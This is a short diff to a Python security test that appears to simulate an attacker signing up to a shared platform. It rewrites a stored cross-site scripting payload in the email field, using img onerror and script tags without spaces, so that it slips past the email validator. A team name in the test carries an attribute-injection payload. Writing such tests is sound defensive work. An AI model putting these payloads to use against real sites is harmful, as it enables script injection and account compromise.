@@ -22,8 +22,9 @@ from tests.security.test_attack_session12_dashboard import ARGS, CHROMIUM, EVIL,
 
 pytestmark = [pytest.mark.root, pytest.mark.shared_platform]
 
-# What Mallory signs up with: an email is only checked for an "@" (and its length).
-MALLORY_EMAIL = f"\"'><img src={EVIL}/i onerror={PWN}><script>{PWN}</script>{uuid.uuid4().hex[:8]}@x.example"
+# What Mallory signs up with: markup without spaces, which the email rule (services/emails.py:
+# no control, format or space characters, one script) lets through as printable ASCII.
+MALLORY_EMAIL = f"\"'><img/src={EVIL}/i/onerror={PWN}><script>{PWN}</script>{uuid.uuid4().hex[:8]}@x.example"
 TEAM_NAME = "Payroll' autofocus onfocus 'x"  # team names: letters, digits, spaces and _ - @ '
 
 
